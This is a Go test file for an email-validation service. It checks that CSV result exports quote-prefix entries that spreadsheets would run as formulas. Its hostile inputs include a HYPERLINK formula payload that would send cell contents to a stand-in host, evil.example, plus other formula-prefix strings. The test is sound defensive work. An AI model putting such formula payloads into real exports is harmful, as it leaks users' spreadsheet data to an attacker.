package app_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/postline/postline/internal/apitest"
	"github.com/postline/postline/internal/config"
	"github.com/postline/postline/internal/store"
)

// TestValidationJobResultsAreSpreadsheetSafe: list lines that a
// spreadsheet would run as formulas come back in the CSV results (API and
// console) prefixed with a quote, and unchanged in JSON lines.
func TestValidationJobResultsAreSpreadsheetSafe(t *testing.T) {
	t.Parallel()
	env := apitest.Start(t, store.SQLite, func(c *config.Config) { c.RateValidationPerHour, c.RateDomainPerMinute = 100000, 100000 })
	alice := env.NewUser("alice")
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")@acme-mail.com`, "+1+1@acme-mail.com", "-2+3@acme-mail.com",
		"@SUM(1+1)", "\tx@acme-mail.com", "\r=1@acme-mail.com", "plain@acme-mail.com"}
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"x")@acme-mail.com`, "'+1+1@acme-mail.com", "'-2+3@acme-mail.com",
		"'@SUM(1+1)", "'\tx@acme-mail.com", "'\r=1@acme-mail.com", "plain@acme-mail.com"}
	resp := env.Do(apitest.Request{Method: "POST", Path: "/api/email/validate/jobs", Auth: alice.Auth(), Body: map[string]any{"emails": hostile}})
	if resp.StatusCode != 202 {
		t.Fatalf("upload: %d %s", resp.StatusCode, resp.Body)
	}
	id := int(resp.JSON["data"].(map[string]any)["id"].(float64))
	waitJob(t, env, alice, float64(id), "done")

	get := func(url string, header http.Header, cookie *http.Cookie) []byte {
		t.Helper()
		req, _ := http.NewRequest("GET", url, nil)
		req.Header = header
		if cookie != nil {
			req.AddCookie(cookie)
		}
		r, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer r.Body.Close()
		raw, _ := io.ReadAll(r.Body)
		return raw
	}
	checkCSV := func(name string, raw []byte) {
		t.Helper()
		rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
		if err != nil || len(rows) != len(hostile)+1 {
			t.Fatalf("%s: %d rows, %v", name, len(rows), err)
		}
		for i, row := range rows[1:] {
			if row[0] != want[i] {
				t.Errorf("%s row %d: email cell %q, want %q", name, i, row[0], want[i])
			}
			for c, cell := range row[1:] {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s row %d column %d: %q starts a formula", name, i, c+1, cell)
				}
			}
		}
	}
	results := fmt.Sprintf("%s/api/email/validate/jobs/%d/results", env.URL, id)
	checkCSV("API CSV", get(results, http.Header{"Authorization": {alice.Auth()}}, nil))
	b := &browser{t: t, base: env.URL}
	b.signIn("alice", alice.Key, "/")
	checkCSV("console CSV", get(fmt.Sprintf("%s/validation/jobs/%d/results.csv", env.URL, id), http.Header{}, b.cookie))

	raw := get(results, http.Header{"Authorization": {alice.Auth()}, "Accept": {"application/x-ndjson"}}, nil)
	dec := json.NewDecoder(bytes.NewReader(raw))
	for i := range hostile {
		var line map[string]any
		if err := dec.Decode(&line); err != nil || line["email"] != hostile[i] {
			t.Errorf("NDJSON line %d: email %q, %v; want %q as sent", i, line["email"], err, hostile[i])
		}
	}
}
